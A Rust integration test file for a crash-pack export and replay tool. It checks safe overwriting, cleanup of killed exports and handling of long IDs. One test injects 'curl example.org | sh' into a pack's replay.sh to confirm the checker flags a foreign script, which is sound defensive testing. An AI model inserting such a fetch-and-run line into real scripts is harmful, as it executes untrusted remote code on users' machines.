//! What belongs to the user stays: only unchanged packs are replaced, and only leftovers of killed programs are removed.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::json;

use crate::desk::{Desk, checks_of, ours, read_json, seal};

const DEMO: &str = "assets/demo.json";

fn export(desk: &Desk, target: &Path) -> Option<i32> {
    desk.run(&["export", DEMO, "-o", target.to_str().expect("a name"), "--force"]).status.code()
}

#[test]
fn force_replaces_only_what_the_hashes_prove_to_be_a_pack() {
    let desk = Desk::new();
    // A manifest that only mentions the format.
    let thesis = desk.path("thesis");
    fs::create_dir(&thesis).expect("a folder");
    fs::write(thesis.join("manifest.json"), "notes about stepback-crashpack/1").expect("written");
    fs::write(thesis.join("thesis.txt"), "years of work").expect("written");
    assert_eq!(export(&desk, &thesis), Some(2));
    assert_eq!(fs::read(thesis.join("thesis.txt")).expect("still there"), b"years of work");
    // A pack with a file of the user, and one with a changed file.
    let pack = desk.export(DEMO, "pack", &[]);
    fs::create_dir(pack.join("notes")).expect("a folder");
    fs::write(pack.join("notes/mine.txt"), "mine").expect("written");
    assert_eq!(export(&desk, &pack), Some(2));
    assert_eq!(fs::read(pack.join("notes/mine.txt")).expect("still there"), b"mine");
    fs::remove_dir_all(pack.join("notes")).expect("removed");
    let journal = fs::read_to_string(pack.join("journal")).expect("a text");
    fs::write(pack.join("journal"), journal.clone() + "my remarks\n").expect("written");
    assert_eq!(export(&desk, &pack), Some(2));
    assert!(fs::read_to_string(pack.join("journal")).expect("still there").ends_with("my remarks\n"));
    fs::write(pack.join("journal"), journal).expect("written");
    assert_eq!(export(&desk, &pack), Some(0));
    desk.leaves_nothing_hidden();
}

#[test]
fn leftovers_of_a_killed_export_are_cleaned_up_by_the_next() {
    let desk = Desk::new();
    // Killed while writing.
    let partial = desk.path(".pack.4194305.partial");
    fs::create_dir(&partial).expect("a folder");
    fs::write(partial.join("trace.json"), "[]").expect("written");
    let pack = desk.export(DEMO, "pack", &[]);
    desk.leaves_nothing_hidden();
    // Killed between moving the old pack aside and naming the new one: the old one is not lost.
    fs::rename(&pack, desk.path(".pack.4194305.old")).expect("moved");
    let output = desk.run(&["export", DEMO, "-o", pack.to_str().expect("a name")]);
    assert_eq!(output.status.code(), Some(2), "the old pack has its name back and is not replaced");
    assert!(pack.join("manifest.json").exists());
    desk.leaves_nothing_hidden();
    // Folders with similar names are not ours.
    for name in [".pack.x.partial", ".pack.partial", ".pack.1.old"] {
        fs::create_dir(desk.path(name)).expect("a folder");
        fs::write(desk.path(name).join("mine.txt"), "mine").expect("written");
    }
    assert_eq!(export(&desk, &pack), Some(0));
    for name in [".pack.x.partial", ".pack.partial", ".pack.1.old"] {
        assert!(desk.path(name).join("mine.txt").exists(), "{name}");
    }
}

#[test]
fn a_foreign_script_in_a_resealed_pack_is_a_finding() {
    let desk = Desk::new();
    let pack = desk.export(DEMO, "pack", &["--seed", "rng=7"]);
    assert!(checks_of(&desk.check(&pack)).iter().all(|check| !check.starts_with("pack/")));
    let script = fs::read_to_string(pack.join("replay.sh")).expect("a script");
    fs::write(pack.join("replay.sh"), script.replace("exec stepback", "curl example.org | sh; exec stepback"))
        .expect("written");
    seal(&pack, read_json(&pack.join("manifest.json")));
    assert_eq!(checks_of(&desk.check(&pack)).iter().filter(|check| *check == "pack/foreign-script").count(), 1);
    let expected = read_json(&pack.join("manifest.json"))["finding"]["fingerprint"].clone();
    let replayed =
        desk.run(&["replay", pack.to_str().expect("a name"), "--expect", expected.as_str().expect("a text")]);
    assert_eq!(replayed.status.code(), Some(3), "the pack is damaged");
}

#[cfg(unix)]
#[test]
fn a_very_long_id_does_not_stop_the_script() {
    let desk = Desk::new();
    let mut events: Vec<serde_json::Value> =
        serde_json::from_slice(&fs::read(ours(DEMO)).expect("a file")).expect("JSON");
    let long = "c".repeat(200_000);
    for event in &mut events {
        if event.get("call_id").is_some() {
            event["call_id"] = json!(format!("{long}{}", event["call_id"].as_str().unwrap_or_default()));
        }
    }
    let log = desk.path("long.json");
    fs::write(&log, json!(events).to_string()).expect("written");
    let pack = desk.export(log.to_str().expect("a name"), "pack", &[]);
    let program = Path::new(env!("CARGO_BIN_EXE_stepback")).parent().expect("a folder");
    let path = format!("{}:{}", program.display(), std::env::var("PATH").unwrap_or_default());
    let status = Command::new(pack.join("replay.sh"))
        .env("PATH", path)
        .stdout(Stdio::null())
        .status()
        .expect("the script starts");
    assert_eq!(status.code(), Some(0));
}
